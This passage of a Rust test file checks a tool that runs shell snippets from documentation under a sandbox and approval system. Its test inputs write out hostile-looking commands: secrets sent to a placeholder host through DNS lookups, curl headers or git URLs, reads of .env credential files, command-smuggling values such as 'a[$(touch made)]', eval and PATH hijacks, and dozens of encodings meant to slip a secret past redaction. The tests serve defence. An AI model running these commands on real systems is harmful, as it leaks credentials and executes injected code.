                r = libc.syscall(*[int(word) for word in sys.argv[1:]]); print(os.strerror(ctypes.get_errno()) if r < 0 else 'done')";
    let scripts = [
        ("setxattrat", "463 -100 0 0 0 0 0", "Function not implemented"),
        ("file-setattr", "469 -100 0 0 0 0", "Function not implemented"),
        ("newest", "4000 0", "Function not implemented"),
        ("ioprio", "251 3 0 24576", "Operation not permitted"),
        ("set-flags", "16 0 1074292226 0", "Operation not permitted"),
        ("lease", "72 0 1024 0", "Operation not permitted"),
    ];
    let one = |(name, words, _): &(&str, &str, &str)| {
        fence(&format!("check=read name={name}"), &format!("python3 -c \"{call}\" {words}"))
    };
    if cfg!(not(target_arch = "x86_64")) {
        return;
    }
    let said = Repo::with(&scripts.iter().map(one).collect::<String>()).approved(&["--require-sandbox"], &[]);
    for (name, _, wanted) in &scripts {
        assert_eq!(said.check(name)["output"].as_str().map(str::trim), Some(*wanted), "{name}: {}", said.out);
    }
}

#[test]
fn a_secret_is_shown_in_no_form() {
    let secret = "tops3cret/of+the \"house\"";
    let prints = "printf '%s\\n' \"$DEPLOY_KEY\"; printf %s \"$DEPLOY_KEY\" | base64; printf %s \"x$DEPLOY_KEY\" | base64 | tr '+/' '-_'\n\
                  printf %s \"$DEPLOY_KEY\" | python3 -c 'import sys,urllib.parse,json; s=sys.stdin.read(); print(urllib.parse.quote(s, safe=\"\")); print(json.dumps(s)); print(s.encode().hex())'\n\
                  printf '%s\\n' \"$DEPLOY_KEY\" >&2; exit 3";
    let page = fence("check=read name=leak secrets=DEPLOY_KEY", prints) + "```output\nnothing\n```\n";
    let repo = Repo::with(&page);
    let variables = [("DEPLOY_KEY", secret)];
    assert_eq!(repo.approved(&[], &variables).status("leak"), "needs-approval");
    let said = repo.approved(&["--allow-secret", "DEPLOY_KEY", "--record"], &variables);
    let text = repo.approved(&["--allow-secret", "DEPLOY_KEY", "--format", "text"], &variables);
    let junit = repo.approved(&["--allow-secret", "DEPLOY_KEY", "--format", "junit"], &variables);
    assert_eq!(said.status("leak"), "failed");
    let output = said.check("leak")["output"].as_str().expect("it is text").to_owned();
    assert!(output.matches("***").count() >= 7, "{output}");
    let all = [said.out, said.err, text.out, text.err, junit.out, repo.read("_ai/devops/checks/local.json")].concat();
    for form in
        [secret, "tops3cret", "dG9wczNjcmV0", "b3BzM2NyZXQ", "tops3cret%2Fof", "of+the \\\"house", "746f707333637265"]
    {
        assert!(!all.contains(form), "{form} in {all}");
    }
}

#[test]
fn no_credential_of_the_repository_is_read_unasked() {
    let looks = [
        "grep -rn PASSWORD . || true",
        "cat $(ls -a | grep '^.env$') || true",
        "x=.e; cat ${x}nv || true",
        "cat conf/* || true",
        "cat link || true",
        "grep -rh x conf src || true",
    ];
    let mut page: String =
        looks.iter().enumerate().map(|(at, script)| fence(&format!("check=read name=w{at}"), script)).collect();
    page += &fence("check=read name=names", "ls -a; ls conf; git status --short; cat src/a conf/b");
    page += &fence("check=read name=asked", "cat .env");
    let repo = Repo::with(&page);
    repo.write(".env", "PASSWORD=correct-horse-battery\n");
    repo.write("conf/server.pem", "x correct-horse-battery\n");
    repo.write("conf/b", "plain b\n");
    repo.write("src/a", "plain x\n");
    std::os::unix::fs::symlink(".env", repo.root().join("link")).expect("a link can be made");
    repo.commit();
    let said = repo.run(&["check", "--format", "json"]);
    assert!(!said.out.contains("correct-horse"), "{}", said.out);
    assert_eq!(said.status("asked"), "needs-approval");
    for at in 0..looks.len() {
        assert!(["passed", "needs-approval"].contains(&said.status(&format!("w{at}")).as_str()), "{}", said.out);
    }
    let seen = said.check("names")["output"].as_str().expect("it is text").to_owned();
    for words in [".env\n", "server.pem\n", "plain x\n", "plain b\n"] {
        assert!(seen.contains(words), "{words}: {seen}");
    }
    let approved = repo.approved(&[], &[]);
    assert_eq!(approved.status("asked"), "passed", "{}", approved.out);
}

/// Programs that write a secret in another way, each with what must be seen.
const WRITERS: &[(&str, &str)] = &[
    (
        "printf %s \"$KEY\" | python3 -c 'import sys,json; print(json.dumps(json.dumps(sys.stdin.read())))'",
        "\"\\\"***\\\"\"",
    ),
    ("printf %s \"$KEY\" | python3 -c 'import sys,urllib.parse; print(urllib.parse.quote(sys.stdin.read()))'", "***"),
    (
        "printf %s \"$KEY\" | python3 -c 'import sys,urllib.parse; print(urllib.parse.quote(sys.stdin.read()).lower())'",
        "***",
    ),
    ("printf %s \"$KEY\" | python3 -c 'import sys,shlex; print(shlex.quote(sys.stdin.read()))'", "'***'"),
    ("printf '%q\\n' \"$KEY\"", "***"),
    ("echo \"${KEY@Q}\"", "'***'"),
    ("declare -p KEY | cut -d = -f 2-", "\"***\""),
    ("printf %s \"$KEY\" | base32 -w 0", "***"),
    ("printf %s \"$KEY\" | base64 -w 0 | base64", "***"),
    ("printf %s \"$KEY\" | base64 | base64", "***"),
    ("printf %s \"xy $KEY\" | base64 -w 20", "eHkg***"),
    ("printf %s \"$KEY\" | od -An -tx1", "***"),
    ("printf %s \"$KEY\" | od -tx1 | head -n 3", "0000000 ***"),
    ("printf %s \"$KEY\" | python3 -c 'import sys; print(sys.stdin.buffer.read().hex(\":\"))'", "***"),
    ("python3 -c 'import os; print(\"\".join(\"\\\\u%04x\" % ord(c) for c in os.environ[\"KEY\"]))'", "***"),
    ("python3 -c 'import os; print(\"\".join(\"\\\\x%02x\" % ord(c) for c in os.environ[\"KEY\"]))'", "***"),
    ("python3 -c 'import os; print(\"\".join(\"&#%d;\" % ord(c) for c in os.environ[\"KEY\"]))'", "***"),
    ("python3 -c 'import os; print(\"\\u200b\".join(os.environ[\"KEY\"]))'", "***"),
    ("python3 -c 'import os; print(\"\\u2060\\ufe0f\".join(os.environ[\"KEY\"]))' >&2", "***"),
    ("printf %s \"$KEY\" | od -An -to1 | tr -d '\\n' | sed 's/ /\\\\/g'", "***"),
    ("printf %s \"$KEY\" | sed 's/o/%6f/g; s/e/\\\\u0065/g'", "***"),
    ("printf %s \"$KEY\" | od | head -n 3", "0000000 ***"),
    ("printf %s \"x$KEY\" | od -An", "***"),
    ("printf %s \"$KEY\" | od -b | head -n 3", "0000000 ***"),
    ("printf %s \"x$KEY\" | od -x | head -n 3", "0000000 ***"),
    ("printf %s \"$KEY\" | od -An -tx4", "***"),
    ("printf %s \"xy$KEY\" | hexdump | head -n 3", "0000000 7978 ***"),
    ("printf %s \"$KEY\" | hexdump -o | head -n 3", "0000000  ***"),
    ("printf %s \"$KEY\" | xxd -e", "00000000: ***"),
    ("printf %s \"$KEY\" | xxd -g8", "00000000: ***"),
    ("printf %s \"$KEY\" | xxd -b", "00000000: ***"),
    ("printf %s \"$KEY\" | od -An -w100 -tx2", "***"),
    ("printf %s \"$KEY\" | od -An -w1 -tu1", "***"),
    ("printf %s \"$KEY\" | od -An -w1 -tx1", "***"),
    ("printf %s \"$KEY\" | od -An -w1 -c", "***"),
    ("printf %s \"$KEY\" | basenc --base2msbf", "***"),
    ("printf %s \"$KEY\" | basenc --base2lsbf", "***"),
    ("printf %s \"$KEY\" | python3 -c 'import sys; print(list(sys.stdin.buffer.read()))'", "[***"),
    (
        "printf %s \"$KEY\" | python3 -c 'import sys; print(\"bits:\", *(format(c, \"08b\") for c in sys.stdin.buffer.read()))'",
        "bits: ***",
    ),
    ("printf %s \"$KEY\" | python3 -c 'import sys; s=sys.stdin.read(); print(s[:6]+chr(92)); print(s[6:])'", "***"),
    ("printf %s \"$KEY\" | od -An --endian=big -tx4", "***"),
    ("printf %s \"$KEY\" | od -An -tu1", "***"),
    ("printf %s \"$KEY\" | od -An -d", "***"),
    ("printf %s \"$KEY\" | od -An -i", "***"),
    ("printf %s \"$KEY\" | od -An -l", "***"),
    ("printf %s \"$KEY\" | hexdump -d | head -n 3", "0000000   ***"),
    ("printf %s \"$KEY\" | od -An -c", "***"),
    ("printf %s \"$KEY\" | od -An -a", "***"),
    ("printf %s \"$KEY\" | hexdump -c | head -n 3", "0000000   ***"),
    ("printf %s \"$KEY\" | iconv -f UTF-8 -t UTF-16LE", "***"),
    ("printf %s \"$KEY\" | iconv -f UTF-8 -t UTF-16BE", "\u{fffd}***"),
    ("printf %s \"$KEY\" | iconv -f UTF-8 -t UTF-16LE | base64 -w 0", "***"),
    ("python3 -c 'import os; print(os.environ[\"KEY\"].encode(\"utf-16-le\"))'", "b'***"),
];

/// Whether what a script calls is here that not every system has.
fn can_run(script: &str) -> bool {
    let folders = std::env::var_os("PATH").expect("there is one");
    let is_here = |program: &str| std::env::split_paths(&folders).any(|folder| folder.join(program).is_file());
    ["hexdump", "xxd"].iter().all(|program| !script.contains(program) || is_here(program))
}

#[test]
fn a_secret_is_covered_however_a_program_writes_it() {
    let writers: Vec<_> = WRITERS.iter().filter(|(script, _)| can_run(script)).collect();
    let page: String = writers
        .iter()
        .enumerate()
        .map(|(at, (script, _))| fence(&format!("check=read name=w{at} secrets=KEY"), script))
        .collect();
    let variables = [("KEY", "tops3cret/of the \"house\", $5 it's")];
    let said = Repo::with(&page).approved(&["--allow-secret", "KEY"], &variables);
    for (at, (script, seen)) in writers.into_iter().enumerate() {
        let output = said.check(&format!("w{at}"))["output"].as_str().expect("it is text").to_owned();
        let output = output.trim().trim_end_matches('=');
        assert!(output.starts_with(seen) && output.len() <= seen.len() + 6, "{script}: {output}");
    }
}

#[test]
fn a_value_that_is_evaluated_may_be_a_command() {
    let scripts = [
        ("compare", "[[ 'a[$(touch made)]' -eq 0 ]]"),
        ("look-for", "[[ -v 'a[$(touch made)]' ]]"),
        ("test", "x=$(cat value); test -v \"$x\""),
        ("print", "x=$(cat value); printf -v \"$x\" y"),
        ("count", "x=$(cat value); (( x ))"),
        ("let", "x=$(cat value); let x"),
        ("expand", "x=$(cat value); echo $((x))"),
        ("declare", "x=$(cat value); declare -i y=$x"),
        ("slice", "x=$(cat value); z=abc; echo ${z:x:1}"),
        ("split", "x=$(cat value); [ $x -eq 0 ]"),
    ];
    let mut page: String =
        scripts.iter().map(|(name, script)| fence(&format!("check=read name={name}"), script)).collect();
    page.push_str(&fence(
        "check=read name=plain",
        "x=$(cat value); test -n \"$x\" && [ \"$x\" != c ] && echo \"${x:-y}\"",
    ));
    let repo = Repo::with(&page);
    repo.write("value", "a[$(touch made)]\n");
    let said = repo.run(&["check", "--format", "json"]);
    for (name, _) in scripts {
        assert_eq!(said.status(name), "needs-approval", "{name}");
        assert_eq!(said.check(name)["effect"], "write", "{name}");
    }
    assert_eq!(said.status("plain"), "passed", "{}", said.out);
}

#[test]
fn a_secret_is_told_to_another_machine_only_with_consent() {
    let reads = [
        ("header", "curl -s -H \"Authorization: Bearer $KEY\" https://shop.invalid"),
        ("name", "dig \"$KEY.shop.invalid\""),
        ("host", "host \"$KEY.shop.invalid\""),
        ("look-up", "nslookup \"$(printenv KEY).shop.invalid\""),
        ("login", "git ls-remote \"https://$KEY@shop.invalid/x\""),
        ("piped", "printenv KEY | curl -s -H @- https://shop.invalid"),
        ("environment", "dig -f /proc/self/environ"),
    ];
    let mut page: String = reads
        .iter()
        .map(|(name, script)| fence(&format!("check=read name={name} net=true secrets=KEY"), script))
        .collect();
    page.push_str(&fence(
        "check=read name=itself net=true secrets=KEY exit=any",
        "git ls-remote ./nowhere 2>&1 | head -n 0",
    ));
    // Without a secret what it reads could be told; and by whether it runs at all, what another found out.
    page.push_str(&fence("check=read name=told net=true exit=any", "ls | git ls-remote ./nowhere 2>&1 | head -n 0"));
    page.push_str(&fence("check=read name=public net=true exit=any", "git ls-remote ./nowhere 2>&1 | head -n 0"));
    page.push_str(&fence("check=read name=finds secrets=KEY exit=any", "printenv KEY | grep -q a"));
    page.push_str(&fence("check=read name=follows needs=finds net=true exit=any", "git ls-remote ./nowhere"));
    let repo = Repo::with(&page);
    let said =
        repo.run_with(&["check", "--format", "json", "--allow-net", "--allow-secret", "KEY"], &[("KEY", "tops3cret")]);
    for (name, _) in reads {
        assert_eq!(
            (said.status(name).as_str(), &said.check(name)["effect"]),
            ("needs-approval", &"write".into()),
            "{name}"
        );
    }
    let why = said.check("host")["why"].as_str().expect("there is one").to_owned();
    assert!(why.ends_with("may tell a secret to another machine"), "{why}");
    assert_eq!([said.status("itself"), said.status("public")], ["passed", "passed"], "{}", said.out);
    assert_eq!([said.status("told"), said.status("follows")], ["needs-approval", "needs-approval"], "{}", said.out);
}

#[test]
fn colours_do_not_lift_the_cover_of_a_secret() {
    let token = token::token();
    let painted = |text: &str| format!("{}\\033[31m{}\\033[0m{}", &text[..9], &text[9..12], &text[12..]);
    let prints = "printf '%s\\033[31m%s\\n' \"${DEPLOY_KEY:0:6}\" \"${DEPLOY_KEY:6}\"";
    let page = fence("check=read name=granted secrets=DEPLOY_KEY", prints)
        + "```output\nnothing\n```\n\n"
        + &fence("check=read name=provider", &format!("printf '{}\\n'", painted(&token)))
        + "```output\nnothing\n```\n"
        + &fence("check=read name=spread", &format!("printf '{}\\342\\200\\213{}\\n'", &token[..9], &token[9..]))
        + "```output\nnothing\n```\n";
    let repo = Repo::with(&page);
    let variables = [("DEPLOY_KEY", "hunter2-and-hunter3")];
    for format in ["text", "json", "junit", "tap", "github"] {
        let said = repo.approved(&["--allow-secret", "DEPLOY_KEY", "--format", format, "--record"], &variables);
        assert_eq!(said.code, 1, "{}", said.err);
        for text in [said.out, said.err, repo.read("_ai/devops/checks/local.json")] {
            let seen = text.replace('\u{200b}', "");
            assert!(!seen.contains("hunter") && !seen.contains(&token), "{text}");
        }
    }
}

#[test]
fn what_changes_after_its_approval_is_not_run() {
    let repo = Repo::with(&fence("check=write name=deploy excludeFromRunAll=true", "bash scripts/deploy.sh"));
    repo.write("scripts/deploy.sh", "echo one > made\n. scripts/part.sh\n");
    repo.write("scripts/part.sh", "echo two >> made\n");
    repo.write(".gitignore", "made\n");
    let approvals = repo.approve();
    let run = || repo.run(&["check", "README.md", "--format", "json", "--approvals", &approvals]);
    assert_eq!(run().status("deploy"), "passed");
    assert_eq!(repo.read("made"), "one\ntwo\n");
    repo.write("scripts/part.sh", "echo three >> made\n");
    assert_eq!((run().status("deploy").as_str(), run().code), ("needs-approval", 3));
    repo.write("scripts/part.sh", "echo two >> made\n");
    assert_eq!(run().status("deploy"), "passed");
    repo.write("README.md", &fence("check=write name=deploy excludeFromRunAll=true", "bash scripts/deploy.sh now"));
    assert_eq!(run().status("deploy"), "needs-approval");
    assert_eq!(repo.read("made"), "one\ntwo\n");
}

#[test]
fn a_bare_program_that_builds_or_reads_is_no_look() {
    let page = fence("check=read name=make", "make")
        + &fence("check=read name=timed", "timeout 5 make")
        + &fence("check=read name=fed", "python3 < e.py")
        + &fence("check=read name=piped", "cat e.py | python3")
        + &fence("check=read name=here", "python3 <<'X'\nprint(1)\nX")
        + &fence("check=read name=sent net=true", "curl -s gopher://127.0.0.1:1/_FLUSHALL")
        + &fence("check=read name=version", "python3 --version");
    let repo = Repo::with(&page);
    repo.write("Makefile", "all:\n\t@touch made\n");
    repo.write("e.py", "open('made', 'w')\n");
    let said = repo.run(&["check", "--allow-net", "--format", "json"]);
    for name in ["make", "timed", "fed", "piped", "here", "sent"] {
        assert_eq!(said.status(name), "needs-approval", "{name}");
    }
    assert_eq!(said.status("version"), "passed");
    assert!(!repo.root().join("made").exists());
}

#[test]
fn an_approval_covers_what_a_bare_make_builds_and_scripts_that_git_does_not_know() {
    let page = fence("check=write name=make excludeFromRunAll=true", "make")
        + &fence("check=write name=ignored excludeFromRunAll=true", "./own.sh")
        + &fence("check=write name=outside excludeFromRunAll=true", "bash link/run.sh");
    let repo = Repo::with(&page);
    let beside = repo.root().parent().expect("it has one").join("beside");
    std::fs::create_dir_all(&beside).expect("it can be made");
    std::fs::write(beside.join("run.sh"), "true\n").expect("it can be written");
    std::os::unix::fs::symlink(&beside, repo.root().join("link")).expect("it can be linked");
    repo.write(".gitignore", "own.sh\nlink\n");
    repo.write("Makefile", "all:\n\t@true\n");
    repo.write("own.sh", "#!/bin/sh\ntrue\n");
    repo.executable("own.sh");
    let approvals = repo.approve();
    let run = || repo.run(&["check", "README.md", "--format", "json", "--approvals", &approvals]);
    let said = run();
    let statuses = |said: &repo::Said| ["make", "ignored", "outside"].map(|name| said.status(name));
    assert_eq!(statuses(&said), ["passed", "passed", "passed"], "{}", said.out);
    repo.write("own.sh", "#!/bin/sh\ntrue now\n");
    std::fs::write(beside.join("run.sh"), "true now\n").expect("it can be written");
    assert_eq!(statuses(&run()), ["passed", "needs-approval", "needs-approval"]);
    repo.write("Makefile", "all:\n\t@true now\n");
    assert_eq!(run().status("make"), "needs-approval");
}

#[test]
fn approvals_expire_and_name_environments() {
    let repo = Repo::with(&fence("check=destroy name=wipe excludeFromRunAll=true", "rm -rf made"));
    repo.write("made/x", "");
    let plan = repo.run(&["check", "README.md", "--plan", "--format", "json"]).out;
    let approvals = repo::approvals_of(&plan);
    let run = |approvals: &str, env: &str| {
        repo.write("approvals.json", approvals);
        repo.run(&["check", "README.md", "--env", env, "--format", "json", "--approvals", "approvals.json"])
    };
    assert_eq!(run(&approvals.replace("2999", "2001"), "local").status("wipe"), "needs-approval");
    assert_eq!(
        run(&approvals.replace(",\"environment\":\"local\"", "").replace("\"environment\":\"local\",", ""), "local")
            .status("wipe"),
        "needs-approval"
    );
    assert_eq!(run(&approvals, "production").status("wipe"), "needs-approval");
    repo.write("ended.json", &approvals.replace("2999", "2020"));
    let revived = ["check", "README.md", "--approvals", "ended.json", "--today", "2019-12-31", "--format", "json"];
    assert_eq!(repo.run(&revived).status("wipe"), "needs-approval");
    std::fs::remove_file(repo.root().join("ended.json")).expect("it is there");
    assert_eq!(run(&approvals.replace("Ada", " "), "local").code, 2);
    let undated = run(&approvals.replace("2999-01-01", "29990101"), "local");
    assert!(undated.code == 2 && undated.err.contains("29990101 is no day like 2026-11-30"), "{}", undated.err);
    assert!(repo.root().join("made").exists());
    assert_eq!(run(&approvals, "local").status("wipe"), "passed");
    assert!(!repo.root().join("made").exists());
}

#[test]
fn a_person_is_asked_and_no_answer_is_a_no() {
    let repo = Repo::with(
        &(fence("check=write name=make excludeFromRunAll=true", "echo x >> made")
            + &fence("check=destroy name=wipe excludeFromRunAll=true", "rm -rf made")
            + &fence("check=manual name=look excludeFromRunAll=true", "Look at the lamp: it is green.")),
    );
    let said = repo.at_terminal("check --name make", "\n");
    assert!(said.contains("needs-approval") && said.contains("| echo x >> made"), "{said}");
    assert_eq!(repo.read("made"), "");
    repo.at_terminal("check --name make", "y\n");
    assert_eq!(repo.read("made"), "x\n");
    repo.at_terminal("check --name make", "t\n");
    assert_eq!(repo.run(&["check", "--name", "make"]).code, 0, "it is trusted now");
    assert_eq!(repo.read("made"), "x\nx\nx\n");
    let elsewhere = repo.run(&["check", "--name", "make", "--env", "production"]);
    assert_eq!(elsewhere.code, 3, "what is trusted here is not in production: {}", elsewhere.out);
    for typed in ["y\n", "t\n", "production\n"] {
        repo.at_terminal("check --name wipe", typed);
    }
    assert_eq!(repo.read("made"), "x\nx\nx\n");
    let said = repo.at_terminal("check --name wipe", "local\n");
    assert!(said.contains("Type `local` to run it"), "{said}");
    assert!(!repo.root().join("made").exists());
    assert!(repo.at_terminal("check --name look", "y\n").contains("passed"));
    assert!(repo.at_terminal("check --name look", "\n").contains("needs-approval"));
    assert_eq!(repo.run(&["check", "--name", "look"]).code, 3);
}

#[test]
fn a_page_cannot_loosen_its_own_guard() {
    let front = "---\ntrust: true\nsandbox: none\nallow-net: true\nenvironment: local\napproved: [x]\n---\n";
    let page = front.to_owned()
        + &fence("check=read name=writes", "touch made")
        + &fence("check=read name=attribute sandbox=none", "true")
        + &fence("check=read name=trusts trust=true", "true")
        + &fence("check=read name=hidden", "true \u{200b}# \u{202e}x")
        + &fence("check=read name=shell interpreter=python3", "open('made', 'w')")
        + &fence("check=read name=path", "PATH=.:$PATH git status")
        + &fence("check=read name=indirect", "$(echo touch) made")
        + &fence("check=read name=eval", "eval 'touch made'")
        + &fence("check=read name=piped", "echo touch made | sh");
    let repo = Repo::with(&page);
    repo.write("devops-docs.toml", "[check]\ntrust = true\nsandbox = \"none\"\nallow-net = true\n");
    repo.write("git", "#!/bin/sh\ntouch made\n");
    let said = repo.run(&["check", "README.md", "--format", "json"]);
    for name in ["attribute", "trusts", "hidden"] {
        assert_eq!(said.status(name), "error", "{name}");
    }
    for name in ["writes", "shell", "path", "indirect", "eval", "piped"] {
        assert_eq!(said.status(name), "needs-approval", "{name}");
    }
    assert!(!repo.root().join("made").exists());
}

#[test]
fn a_program_that_the_repository_names_is_not_asked_for_its_version() {
    let page = fence("check=read name=yarn", "yarn --version") + &fence("check=read name=cargo", "cargo --version");
    let repo = Repo::with(&page);
    // As yarn does: it hands over to what the repository keeps.
    let programs = Programs::new();
    let script = "#!/bin/sh\nif [ -f .yarnrc.yml ]; then exec sh \"$(sed -n 's/^yarnPath: //p' .yarnrc.yml)\"; fi\necho 1.22.22\n";
    programs.add("yarn", script);
    programs.add("cargo", script);
    let path = programs.path();
    let run = |arguments: &[&str]| repo.run_with(arguments, &[("PATH", path.as_str())]);
    repo.write("package.json", "{\"packageManager\": \"yarn@1.22.22\"}\n");
    repo.write("evil.sh", "echo 9.9.9\n");
    let said = run(&["check", "--format", "json"]);
    assert_eq!([said.status("yarn"), said.status("cargo")], ["passed", "passed"], "{}", said.out);
    repo.write(".yarnrc.yml", "yarnPath: evil.sh\n");
    repo.write("rust-toolchain.toml", "[toolchain]\npath = \"/evil\"\n");
    let said = run(&["check", "--format", "json"]);
    // The one is asked where it finds nothing of the repository, the other not at all.
    assert_eq!([said.status("yarn"), said.status("cargo")], ["passed", "needs-approval"]);
    assert!(!said.out.contains("9.9.9"), "{}", said.out);
    let said = run(&["doctor", "--format", "json"]);
    assert!(said.out.contains("1.22.22") && !said.out.contains("9.9.9"), "{}{}", said.out, said.err);
}

#[test]
fn a_program_that_reads_the_repository_first_is_not_asked_for_its_version_and_is_covered_by_an_approval() {
    let repo = Repo::with(
        &(fence("check=read name=alone", "mvn --version")
            + &fence("check=read name=mvn", "true\nmvn --version")
            + "```output\n3.9.9\n```\n"),
    );
    // As Maven does: what the file says goes to the virtual machine, which can run anything.
    let programs = Programs::new();
    let script = "#!/bin/sh\nif [ -f .mvn/jvm.config ]; then eval \"$(sed -n 's/^-javaagent://p' .mvn/jvm.config)\"; fi\necho 3.9.9\n";
    programs.add("mvn", script);
    let path = programs.path();
    let variables = &[("PATH", path.as_str())];
    repo.write("pom.xml", "<project/>\n");
    repo.write(".mvn/jvm.config", "-Xmx1g\n-javaagent:echo agent\n");
    let said = repo.run_with(&["check", "--format", "json"], variables);
    assert_eq!(
        said.check("mvn")["why"],
        "it counts as a write: `mvn` does first what .mvn/jvm.config says: ask it alone, or with `cwd=tmp`"
    );
    // In an empty folder nothing tells it what to do.
    assert_eq!((said.status("alone").as_str(), said.check("alone")["output"].as_str()), ("passed", Some("3.9.9\n")));
    let plan = repo.run_with(&["check", "--plan", "--format", "json"], variables);
    repo.write("../approvals.json", &repo::approvals_of(&plan.out));
    let approved = || {
        let arguments = ["check", "--format", "json", "--approvals", "../approvals.json"];
        repo.run_with(&arguments, variables).status("mvn")
    };
    assert_eq!(approved(), "failed");
    repo.write(".mvn/jvm.config", "-Xmx1g\n-javaagent:echo other\n");
    assert_eq!(approved(), "needs-approval");
    let said = repo.run_with(&["doctor", "--format", "json"], variables);
    assert!(!said.out.contains("other"), "{}", said.out);
}

#[test]
fn a_script_that_nobody_knows_is_asked_where_it_finds_nothing_of_the_repository() {
    let page = fence("check=read name=alone", "probely --version | head -1")
        + &fence("check=read name=help", "said=$(probely --help)\necho \"$said\"")
        + &fence("check=read name=both", "ls\nprobely --version")
        + &fence("check=read name=empty cwd=tmp", "ls\nprobely --version")
        + &fence("check=read name=back cwd=tmp", "cd \"$OLDPWD\"\nprobely --version");
    let repo = Repo::with(&page);
    repo.write("probely.conf", "echo of the repository\n");
    let programs = Programs::new();
    programs.add("probely", "#!/bin/sh\n[ -f probely.conf ] && . ./probely.conf\necho 3.1\n");
    let path = programs.path();
    let said = repo.run_with(&["check", "--format", "json"], &[("PATH", &path)]);
    for name in ["alone", "help", "empty"] {
        assert_eq!(said.status(name), "passed", "{name}: {}", said.out);
        assert_eq!(said.check(name)["output"].as_str().map(str::trim), Some("3.1"), "{name}");
    }
    for name in ["both", "back"] {
        assert_eq!(said.status(name), "needs-approval", "{name}: {}", said.out);
    }
    let why = "it counts as a write: `probely` is a script, which may run what the repository holds before it answers: \
               ask it alone, or with `cwd=tmp`";
    assert_eq!(said.check("both")["why"], why);
    let plan = repo.run_with(&["check", "--plan", "--name", "alone"], &[("PATH", &path)]);
    assert!(plan.out.contains("in an empty folder"), "{}", plan.out);
    // A known one answers for itself; of one that nobody knows it cannot be told what it takes the question for.
    std::fs::copy("/bin/ls", programs.place.path().join("unheard")).expect("it is there");
    let page = fence("check=read name=ls", "ls\nls --version")
        + &fence("check=read name=unheard", "unheard --version")
        + &fence("check=read name=beside", "ls\nunheard --version");
    let said = Repo::with(&page).run_with(&["check", "--format", "json"], &[("PATH", &path)]);
    assert_eq!([said.status("ls"), said.status("unheard")], ["passed", "passed"]);
    assert_eq!(said.status("beside"), "needs-approval");
    let why = said.check("beside")["why"].as_str().unwrap_or_default().to_owned();
    assert!(why.contains("nobody knows what `unheard` does with the files around it"), "{why}");
    // Nor does one that is a link into the repository.
    let repo = Repo::with(&fence("check=read name=linked", "linked --version"));
    repo.write("own.sh", "#!/bin/sh\necho 1.0\n");
    repo.executable("own.sh");
    std::os::unix::fs::symlink(repo.root().join("own.sh"), programs.place.path().join("linked"))
        .expect("there is room");
    let said = repo.run_with(&["check", "--format", "json"], &[("PATH", &path)]);
    assert_eq!(said.status("linked"), "needs-approval", "{}", said.out);
}

#[test]
fn a_pull_request_runs_only_what_is_merged() {
    let repo = Repo::with(&fence("check=read name=old", "cat x.txt"));
    repo.write("x.txt", "x\n");
    repo.commit();
    repo.write(
        "README.md",
        &(fence("check=read name=old", "cat x.txt") + &fence("check=read name=new", "cat x.txt README.md")),
    );
    let run = |base: &str| repo.run(&["check", "--base", base, "--format", "json"]);
    assert_eq!([run("HEAD").status("old"), run("HEAD").status("new")], ["passed", "untrusted"]);
    assert_eq!(run("HEAD").code, 3);
    assert_eq!(run("no-such-revision").status("old"), "untrusted");
    for system in [
        &[("SYSTEM_PULLREQUEST_TARGETBRANCH", "refs/heads/main")][..],
        &[("BUILDKITE_PULL_REQUEST_BASE_BRANCH", "main")],
        &[("TRAVIS_PULL_REQUEST", "7"), ("TRAVIS_BRANCH", "main")],
        &[("CIRCLE_PULL_REQUEST", "https://github.com/acme/shop/pull/7")],
        &[("CI_EXTERNAL_PULL_REQUEST_TARGET_BRANCH_NAME", "main")],
        &[("ghprbTargetBranch", "main")],
        &[("CI_COMMIT_TARGET_BRANCH", "main")],
        &[("CIRRUS_PR", "7"), ("CIRRUS_BASE_BRANCH", "main")],
        &[("CODEBUILD_WEBHOOK_BASE_REF", "refs/heads/main")],
        &[("BITRISEIO_GIT_BRANCH_DEST", "main")],
        &[("CF_PULL_REQUEST_TARGET", "main")],
        &[("APPVEYOR_PULL_REQUEST_NUMBER", "7"), ("APPVEYOR_REPO_BRANCH", "main")],
        &[("SEMAPHORE_GIT_REF_TYPE", "pull-request"), ("SEMAPHORE_GIT_BRANCH", "main")],
        &[("JOB_TYPE", "presubmit"), ("PULL_BASE_REF", "main")],
        &[("PULL_NUMBER", "7")],
    ] {
        let said = repo.run_with(&["check", "--format", "json"], system);
        assert!(said.out.contains("\"untrusted\""), "{system:?}: {}", said.out);
    }
    // These have the branch of any build.
    for system in [
        &[("TRAVIS_PULL_REQUEST", "false"), ("TRAVIS_BRANCH", "main")][..],
        &[("APPVEYOR_REPO_BRANCH", "main")],
        &[("SEMAPHORE_GIT_REF_TYPE", "branch"), ("SEMAPHORE_GIT_BRANCH", "main")],
        &[("JOB_TYPE", "postsubmit"), ("PULL_BASE_REF", "main")],
    ] {
        let said = repo.run_with(&["check", "--format", "json"], system);
        assert!(!said.out.contains("\"untrusted\""), "{system:?}: {}", said.out);
    }
    let in_ci = repo.run_with(&["check", "--format", "json"], &[("GITHUB_BASE_REF", "main")]);
    assert_eq!(in_ci.status("old"), "untrusted", "origin/main is not there");
}

#[test]
fn a_pull_request_does_not_approve_itself() {
    let repo = Repo::with(&fence("check=destroy name=wipe excludeFromRunAll=true", "rm -rf made"));
    repo.write("approvals.json", "{\"version\":1,\"approvals\":[]}");
    repo.write("made/x", "");
    repo.commit();
    let plan = ["check", "README.md", "--plan", "--format", "json", "--approvals", "approvals.json"];
    let approvals = repo::approvals_of(&repo.run(&plan).out);
    let run = |file: &str| repo.run(&["check", "README.md", "--base", "HEAD", "--format", "json", "--approvals", file]);
    repo.write("approvals.json", &approvals);
    assert_eq!(run("approvals.json").status("wipe"), "needs-approval");
    repo.git(&["checkout", "--quiet", "approvals.json"]);
    repo.write("new.json", &approvals);
    let said = run("new.json");
    assert_eq!(said.status("wipe"), "needs-approval");
    assert!(said.err.contains("HEAD has no new.json, so nothing is approved"), "{}", said.err);
    let elsewhere = tempfile::tempdir().expect("there is room");
    let link = elsewhere.path().join("link.json");
    std::os::unix::fs::symlink(repo.root().join("new.json"), &link).expect("there is room");
    assert_eq!(run(&link.display().to_string()).status("wipe"), "needs-approval");
    // Nor by a folder that leads out of the repository.
    std::fs::write(elsewhere.path().join("brought.json"), &approvals).expect("there is room");
    std::os::unix::fs::symlink(elsewhere.path(), repo.root().join("ci")).expect("there is room");
    assert_ne!(run("ci/brought.json").status("wipe"), "passed");
    std::fs::remove_file(repo.root().join("ci")).expect("it is there");
    std::fs::remove_file(repo.root().join("new.json")).expect("it is there");
    assert!(repo.root().join("made").exists());
    repo.write("approvals.json", &approvals);
